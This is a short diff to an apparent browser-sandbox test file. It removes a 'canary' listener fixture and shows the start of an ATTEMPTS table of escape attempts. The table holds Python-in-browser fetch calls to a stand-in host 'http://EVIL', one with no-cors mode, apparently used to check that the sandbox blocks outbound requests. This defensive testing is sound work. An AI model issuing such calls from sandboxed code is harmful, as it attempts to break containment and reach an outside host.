@@ -13,12 +13,6 @@ from support.engines import Engine, SandboxPage
 pytestmark = pytest.mark.browser
 
 
-@pytest.fixture(scope="module")
-def canary() -> Iterator[Canary]:
-    with Canary() as listening:
-        yield listening
-
-
 ATTEMPTS = {
     "fetch": "await js.fetch('http://EVIL/fetch')",
     "fetch no-cors": "await js.fetch('http://EVIL/x', mode='no-cors')",
